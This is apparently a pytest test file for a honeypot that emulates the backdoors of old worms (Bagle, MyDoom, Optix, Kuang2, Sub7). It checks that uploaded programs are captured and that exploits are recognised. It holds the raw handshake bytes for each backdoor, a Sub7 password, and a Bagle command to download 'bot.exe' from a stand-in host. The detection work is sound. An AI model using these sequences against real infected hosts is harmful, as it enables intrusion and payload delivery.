"""Old worms' doors: what each handshake brings is kept, byte for byte."""

from __future__ import annotations

import struct

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised
from eudaemon.protocols._base import Claim
from eudaemon.protocols.backdoor import COMMANDS_MAX, HEAD_BYTES_MAX, PROGRAM_BYTES_MAX, Backdoor
from eudaemon.testing.script import Table, visit
from eudaemon.wire import Purse

PROGRAM = b"MZ" + bytes(range(256)) * 9
BAGLE = b"\x43\xff\xff\xff000\x01\x0a\x28\x91\xa1\x2b\xe6\x60\x2f\x32\x8f\x60\x15\x1a\x20\x1a"
KUANG2 = struct.pack("<4sI", b"UPDF", len(PROGRAM)) + b"C:\\a.exe\0" + bytes(100)


def talk() -> Table:
    return Table(Backdoor(visit(purse=Purse(64 << 20)))).open()


@pytest.mark.parametrize("split", [0, 1])
@pytest.mark.parametrize(
    ("name", "says", "answer", "kept_as"),
    [
        ("bagle", BAGLE + len(PROGRAM).to_bytes(4, "big") + PROGRAM, None, ""),
        ("mydoom", b"\x85\x13\x3c\x9e\xa2" + PROGRAM, b"", ""),
        ("optix", b"C:\\a.exe\r\n%d\r\n" % len(PROGRAM) + PROGRAM, b"+OK REDY+OK RECVD", "C:\\a.exe"),
        ("kuang2", KUANG2 + PROGRAM + b"RUNF\0\0\0\0C:\\a.exe\0", b"DONE" * 3, "C:\\a.exe"),
        (
            "sub7",
            b"PWD123TIDxSFT05%d" % len(PROGRAM) + PROGRAM,
            b"connected. time/date: 22:13.20 - November 14, 2023, Tuesday, ver: M.U.I.E. 2.1UPS+OK RECVD",
            "",
        ),
    ],
)
def test_what_is_brought_is_kept(name: str, says: bytes, answer: bytes | None, kept_as: str, split: int) -> None:
    table = talk()
    said = table.say(says, split)
    table.end()
    assert [(keep.data, keep.name, keep.partial) for keep in table.kept] == [(PROGRAM, kept_as, False)]
    assert ExploitRecognised(f"{name}-backdoor") in table.facts
    assert said == answer if answer is not None else len(said) == 8


@pytest.mark.parametrize("split", [0, 1])
def test_bagle_fetches(split: int) -> None:
    table = talk()
    table.say(BAGLE + b"http://192.0.2.9/bot.exe\0", split)
    assert [wish.download.url for wish in table.wishes] == ["http://192.0.2.9/bot.exe"]


def test_optix_lets_in_and_tells_what_was_asked() -> None:
    table = talk()
    assert table.say(b"022\xac\xac1.2\r\n").startswith(b"001\xac")
    assert table.say(b"019\xac\r\n") == b"020\xac\r\n"
    assert [fact.line for fact in table.facts if isinstance(fact, CommandEntered)] == ["022\\xac\\xac1.2", "019\\xac"]


@pytest.mark.parametrize(("port", "greeting"), [(27347, b"PWD"), (3127, b"")])
def test_sub7_asks_first_where_nothing_else_is(port: int, greeting: bytes) -> None:
    table = Table(Backdoor(visit(port=port))).open()
    assert table.sent == greeting
    assert table.say(b"PWD1").startswith(b"connected.")


def test_sub7_tells_its_password() -> None:
    table = talk()
    table.say(b"PWD14438136782715101980")
    table.say(b"TID")
    assert CommandEntered("PWD14438136782715101980") in table.facts


def test_what_breaks_off_is_kept_as_a_part() -> None:
    table = talk()
    table.say(b"C:\\a.exe\r\n9999\r\n" + PROGRAM)
    table.end()
    assert [(keep.data, keep.partial) for keep in table.kept] == [(PROGRAM, True)]


def test_limits() -> None:
    for past in (0, 1):
        table = talk()
        table.say(b"C:\\a.exe\r\n%d\r\n" % (PROGRAM_BYTES_MAX + past))
        assert bool(table.fault) == bool(past)
        table = talk()
        table.say(b"\x85\x13\x3c\x9e\xa2" + bytes(PROGRAM_BYTES_MAX + past))
        assert bool(table.fault) == bool(past)
        table.end()
        assert len(table.kept) == 1
        table = talk()
        table.say(b"x" * (HEAD_BYTES_MAX + past))
        assert bool(table.fault) == bool(past)
        table = talk()
        table.say(b"022\xac\r\n" * (COMMANDS_MAX + past))
        assert bool(table.fault) == bool(past)


def test_whose_conversation_it_is() -> None:
    for first, claim in ((b"P", Claim.UNSURE), (b"PWD", Claim.YES), (b"022\xac", Claim.YES), (b"QU", Claim.UNSURE),
                         (b"\x43\xff", Claim.UNSURE), (b"GET / HTTP/1.0", Claim.NO)):  # fmt: skip
        assert Backdoor.claim(first) is claim, first
